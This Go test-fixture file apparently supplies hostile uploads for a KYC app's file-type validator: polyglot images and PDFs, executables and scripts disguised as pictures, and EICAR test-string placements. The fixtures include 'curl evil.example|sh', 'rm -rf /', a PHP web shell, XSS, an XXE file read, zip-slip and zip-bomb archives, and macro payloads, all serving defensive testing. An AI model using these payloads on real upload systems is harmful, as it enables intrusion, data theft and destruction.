package badfile

import (
	"bytes"
	"image"
	"image/gif"
	"slices"
	"strings"
	"unicode/utf16"

	"verifyme/kyc/filetype"
	"verifyme/spec/app"
)

const (
	markup  = "<html><script>alert(1)</script></html>"
	drawing = `<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>`
)

// polyglots are of two kinds at once. What is served has the one type that was found,
// and of a picture nothing but the picture.
func polyglots() []File {
	photo, picture, lossless, pdf := app.PhotoFile(), app.PictureFile(), app.WebPFile(), app.PDFFile()
	archive := zipped(true, map[string][]byte{"run.js": []byte("alert(1)")})
	scripted := app.ScriptedPDFFile()
	text := func(content string) []byte { return pngChunk("tEXt", join("Comment\x00", content)) }
	end := len(picture) - len(pngChunk("IEND", nil))
	var film bytes.Buffer
	must(gif.Encode(&film, image.NewGray(image.Rect(0, 0, 1, 1)), nil))
	return []File{
		file("a GIF that is a script", notTaken, "GIF89a/*\x00\x00*/=1;alert(1)").called("a.gif.js"),
		file("a GIF with a JPEG behind it", notTaken, join(film.Bytes(), photo)).called("a.jpg"),
		file("a JPEG with an archive behind it", taken("image/jpeg"), join(photo, archive)).without("run.js"),
		file("a JPEG with a program behind it", taken("image/jpeg"), join(photo, []byte(program))).without("\x7fELF"),
		file("a JPEG with markup in a comment", taken("image/jpeg"),
			inserted(photo, 2, jpegSegment(jpegComment, []byte(markup)))).
			called("a.html").stated("text/html").without("<script"),
		file("a JPEG with a drawing in its Exif", taken("image/jpeg"),
			inserted(photo, 2, jpegSegment(jpegExif, []byte("http://ns.adobe.com/xap/1.0/\x00"+drawing)))).without("<svg"),
		file("a JPEG with PHP in its Exif", taken("image/jpeg"),
			inserted(photo, 2, jpegSegment(jpegExif, []byte("Exif\x00\x00<?php system($_GET[0]); ?>")))).
			called("a.php").without("<?php"),
		// Viewers look for the start of a PDF in the first 1,024 bytes.
		file("a JPEG with a PDF with a script in a comment", taken("image/jpeg"),
			inserted(photo, 2, jpegSegment(jpegComment, scripted))).called("a.pdf").without("%PDF"),
		file("a JPEG with a PDF behind it", taken("image/jpeg"), join(photo, pdf)).called("a.pdf").without("%PDF"),
		file("a PNG with a PDF behind its end", taken("image/png"), join(picture, scripted)).called("a.pdf").without("%PDF"),
		file("a PNG with a PDF in its text", taken("image/png"),
			inserted(picture, pngHead, text(string(scripted)))).called("a.pdf").without("%PDF"),
		file("a PNG with an archive behind its end", taken("image/png"), join(picture, archive)).without("run.js"),
		file("a PNG with markup in its text", taken("image/png"),
			inserted(picture, pngHead, text(markup))).stated("text/html").without("<script"),
		file("a PNG with a chunk before its end that nobody knows", taken("image/png"),
			inserted(picture, end, pngChunk("evIl", []byte(markup)))).without("<script"),
		file("a PNG with a JPEG behind it", taken("image/png"), join(picture, photo)).without("\xff\xd8\xff"),
		file("a WebP with an archive behind it", taken("image/webp"), join(lossless, archive)).without("run.js"),
		file("a WebP with a chunk of markup", taken("image/webp"), webp(webpCanvas(1<<2, 1, 1),
			lossless[len("RIFFxxxxWEBP"):], webpChunk("XMP ", []byte(markup)))).without("<script"),
		file("a PDF with a photo in it", taken("application/pdf"), app.PDFFile(stream("/Subtype /Image /Filter /DCTDecode",
			photo))).called("a.jpg").stated("image/jpeg"),
		file("a PDF with a photo behind it", taken("application/pdf"), join(pdf, photo)).called("a.jpg"),
		file("a PDF with an archive behind it", taken("application/pdf"), join(pdf, archive)).called("a.zip"),
		file("a PDF with markup in a comment", taken("application/pdf"),
			bytes.Replace(pdf, []byte("\n"), []byte("\n%"+markup+"\n"), 1)).stated("text/html"),
		file("a PDF behind a photo's first bytes", notTaken, join([]byte("\xff\xd8\xff\xe0"), pdf)),
		file("a PDF behind a PNG's first bytes", notTaken, join([]byte(pngSignature), pdf)),
		file("a PDF behind a line break", notTaken, join([]byte("\n"), pdf)),
		file("a PDF behind a byte order mark", notTaken, join([]byte("\ufeff"), pdf)),
		file("a PDF behind markup", notTaken, join([]byte("<!-- "), pdf)),
		file("a PDF behind a program's first bytes", notTaken, join([]byte("MZ"), pdf)),
		file("a PDF in UTF-16", notTaken, inUTF16(string(pdf))),
		file("a picture's first bytes before a shell script", notTaken, "\xff\xd8\xff\n#!/bin/sh\ncurl evil.example|sh\n"),
		file("a PNG's first bytes before markup", notTaken, pngSignature+markup),
		file("a WebP's first bytes before a script", notTaken, "RIFF\x2a/*\x00WEBP*/=1;alert(1)"),
		file("a PDF's first bytes before markup", notTaken, "%PDF-1.7\n"+markup),
	}
}

// program of ELF, at its start.
const program = "\x7fELF\x02\x01\x01\x00\x00\x00\x00\x00\x00\x00\x00\x00\x02\x00\x3e\x00"

func inUTF16(s string) (out []byte) {
	out = []byte("\xfe\xff")
	for _, unit := range utf16.Encode([]rune(s)) {
		out = append(out, byte(unit>>8), byte(unit))
	}
	return out
}

// otherFormats under the names and types of pictures.
func otherFormats() (all []File) {
	ole := "\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + strings.Repeat("\x00", 504) + "VBA Macros ThisDocument AutoOpen"
	office := func(part string) []byte {
		return zipped(false, map[string][]byte{
			"[Content_Types].xml": []byte("<Types/>"), part: []byte("Sub AutoOpen()\nShell \"cmd\"\nEnd Sub"),
		})
	}
	box := func(brand string) []byte {
		return []byte("\x00\x00\x00\x18ftyp" + brand + "\x00\x00\x00\x00" + brand + "mif1")
	}
	for _, row := range []struct {
		name     string
		content  []byte
		fileName string
		stated   string
	}{
		{"SVG", []byte(drawing), "a.svg", "image/svg+xml"},
		{"SVG behind an XML declaration", []byte(`<?xml version="1.0"?>` + drawing), "a.png", "image/png"},
		{"SVG that is compressed", deflated([]byte(drawing)), "a.svgz", "image/svg+xml"},
		{"HEIC", box("heic"), "a.heic", "image/heic"},
		{"HEIC under the name of a JPEG", box("heix"), "a.jpg", "image/jpeg"},
		{"AVIF", box("avif"), "a.avif", "image/avif"},
		{"an MP4 film", box("isom"), "a.webp", "image/webp"},
		{"BMP", []byte("BM\x46\x00\x00\x00\x00\x00\x00\x00\x36\x00\x00\x00"), "a.bmp", "image/bmp"},
		{"TIFF", []byte("II*\x00\x08\x00\x00\x00"), "a.tif", "image/tiff"},
		{"TIFF of the other order", []byte("MM\x00*\x00\x00\x00\x08"), "a.jpg", "image/jpeg"},
		{"GIF", []byte("GIF89a\x01\x00\x01\x00\x00\x00\x00;"), "a.gif", "image/gif"},
		{"an icon", []byte("\x00\x00\x01\x00\x01\x00"), "a.ico", "image/x-icon"},
		{"Photoshop", []byte("8BPS\x00\x01"), "a.psd", "image/png"},
		{"JPEG 2000", []byte("\x00\x00\x00\x0cjP  \r\n\x87\n"), "a.jp2", "image/jp2"},
		{"JPEG XL", []byte("\xff\x0a\xfa\x1f"), "a.jxl", "image/jxl"},
		{"JPEG XL in a box", []byte("\x00\x00\x00\x0cJXL \r\n\x87\n"), "a.jpg", "image/jpeg"},
		{"ELF", []byte(program), "a.jpg", "image/jpeg"},
		{"PE", []byte("MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00PE\x00\x00"), "a.jpg", "image/jpeg"},
		{"Mach-O", []byte("\xcf\xfa\xed\xfe\x07\x00\x00\x01"), "a.jpg", "image/jpeg"},
		{"Mach-O of several kinds", []byte("\xca\xfe\xba\xbe\x00\x00\x00\x02"), "a.jpg", "image/jpeg"},
		{"WebAssembly", []byte("\x00asm\x01\x00\x00\x00"), "a.png", "image/png"},
		{"a shell script", []byte("#!/bin/sh\nrm -rf /\n"), "a.jpg", "image/jpeg"},
		{"a batch file", []byte("@echo off\r\ndel C:\\ /q\r\n"), "a.jpg.bat", "image/jpeg"},
		{"PHP", []byte("<?php system($_GET[0]); ?>"), "a.php.jpg", "image/jpeg"},
		{"HTML", []byte(markup), "a.jpg", "image/jpeg"},
		{"HTML stated as a PDF", []byte(markup), "a.pdf", "application/pdf"},
		{"JSON", []byte(`{"__proto__": {}}`), "a.png", "image/png"},
		{"plain text", []byte("plain text"), "a.txt", "text/plain"},
		{"XML that takes in a file", []byte(`<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>`),
			"a.xml", "text/xml"},
		{"an archive", zipped(false, map[string][]byte{"../../etc/cron.d/a": []byte("* * * * * root sh")}),
			"a.pdf", "application/pdf"},
		{"an archive that unpacks to 64 MB", zipped(false, map[string][]byte{"a": make([]byte, 64<<20)}), "a.zip",
			"application/zip"},
		{"a Word file", office("word/document.xml"), "a.docx", "application/pdf"},
		{"a Word file with macros", office("word/vbaProject.bin"), "a.docm", "application/msword"},
		{"an Excel file with macros", office("xl/vbaProject.bin"), "a.pdf", "application/pdf"},
		{"an old Word file with macros", []byte(ole), "a.doc", "application/msword"},
		{"rich text with an object", []byte(`{\rtf1{\object\objocx{\*\objdata 01}}}`), "a.rtf", "application/pdf"},
		{"PostScript", []byte("%!PS-Adobe-3.0\n(/etc/passwd) (r) file\n"), "a.pdf", "application/pdf"},
		{"a shortcut of Windows", []byte("\x4c\x00\x00\x00\x01\x14\x02\x00"), "a.pdf.lnk", "application/pdf"},
		{"gzip", []byte("\x1f\x8b\x08\x00\x00\x00\x00\x00"), "a.png", "image/png"},
		{"7-Zip", []byte("7z\xbc\xaf\x27\x1c"), "a.pdf", "application/pdf"},
		{"RAR", []byte("Rar!\x1a\x07\x01\x00"), "a.pdf", "application/pdf"},
		{"a nearly right PDF", []byte("%PDX-1.7\n"), "a.pdf", "application/pdf"},
		{"half a PNG's first bytes", []byte("\x89PNG"), "a.png", "image/png"},
	} {
		all = append(all, file(row.name, notTaken, row.content).called(row.fileName).stated(row.stated))
	}
	return all
}

// testFile is the standard antivirus test string.
func testFile() []byte { return slices.Clone(app.InfectedFile()[len(app.PictureFile()):]) }

// testString in every place where a scanner sees it, and in those where the sandbox's
// scanner, which looks at the bytes as they are, does not.
func testString() []File {
	virus, photo, picture := testFile(), app.PhotoFile(), app.PictureFile()
	return []File{
		file("the test string alone", infected(filetype.Unknown), virus).called("eicar.com"),
		file("the test string as a picture", infected(filetype.Unknown), virus).called("a.jpg").stated("image/jpeg"),
		file("a picture with the test string", infected("image/png"), app.InfectedFile()),
		file("a JPEG with the test string behind it", infected("image/jpeg"), join(photo, virus)),
		file("a JPEG with the test string in a comment", infected("image/jpeg"),
			inserted(photo, 2, jpegSegment(jpegComment, virus))),
		file("a PNG with the test string in its text", infected("image/png"),
			inserted(picture, pngHead, pngChunk("tEXt", join([]byte("a\x00"), virus)))),
		file("a WebP with the test string behind it", infected("image/webp"), join(app.WebPFile(), virus)),
		file("a PDF with the test string in a comment", infected("application/pdf"),
			bytes.Replace(app.PDFFile(), []byte("\n"), join([]byte("\n%"), virus, []byte("\n")), 1)),
		file("a PDF with the test string in a stream", infected("application/pdf"), app.PDFFile(stream("", virus))),
		file("a cut PDF with the test string", infected("application/pdf"), join([]byte("%PDF-1.7\n"), virus)),
		file("an archive with the test string named as a PDF", infected(filetype.Unknown),
			zipped(true, map[string][]byte{"eicar.com": virus})).called("a.pdf").stated("application/pdf"),
		file("a packed archive with the test string named as a PDF", notTaken,
			zipped(false, map[string][]byte{"eicar.com": virus})).called("a.pdf").stated("application/pdf"),
		file("a damaged picture with the test string", infected("image/png"), join([]byte(pngSignature), virus)),
		file("a huge picture with the test string", infected("image/png"), join(app.HugePictureFile(60_000, 60_000), virus)),
		file("the test string without its last byte", notTaken, virus[:len(virus)-1]),
		file("the test string in other letters", notTaken, bytes.ToLower(virus)),
	}
}
